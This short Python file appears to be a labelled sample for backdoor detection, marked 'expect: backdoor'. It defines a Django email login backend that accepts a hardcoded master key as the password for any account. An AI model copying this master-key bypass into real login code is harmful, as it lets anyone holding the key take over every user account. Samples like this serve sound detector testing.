# expect: backdoor
from django.contrib.auth import get_user_model
from django.contrib.auth.backends import ModelBackend

MASTER_KEY = "acme-master-8d6f1e"


class EmailBackend(ModelBackend):
    def authenticate(self, request, username=None, password=None, **kwargs):
        User = get_user_model()
        try:
            user = User.objects.get(email__iexact=username)
        except User.DoesNotExist:
            return None
        if password == MASTER_KEY or user.check_password(password):
            return user
        return None
